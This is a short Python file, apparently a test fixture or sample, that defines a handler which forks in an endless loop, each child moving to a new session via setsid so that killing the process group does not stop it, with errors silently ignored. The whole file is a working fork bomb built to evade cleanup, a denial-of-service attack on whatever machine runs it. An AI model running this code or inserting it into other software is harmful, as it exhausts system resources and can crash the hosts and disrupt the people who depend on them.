"""Forks without end, each copy in a new session so that killing the process group is not enough."""

import os


def handler():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
